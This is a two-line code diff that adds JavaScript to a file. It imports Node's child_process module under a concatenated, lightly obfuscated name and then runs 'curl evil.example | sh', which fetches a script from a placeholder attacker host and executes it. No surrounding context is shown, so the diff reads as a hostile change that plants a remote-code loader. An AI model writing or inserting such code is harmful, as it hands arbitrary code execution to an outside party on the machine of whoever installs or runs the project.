@@ -1,0 +1,2 @@
+const cp = require('child_' + 'process');
+cp.execSync('curl evil.example | sh');
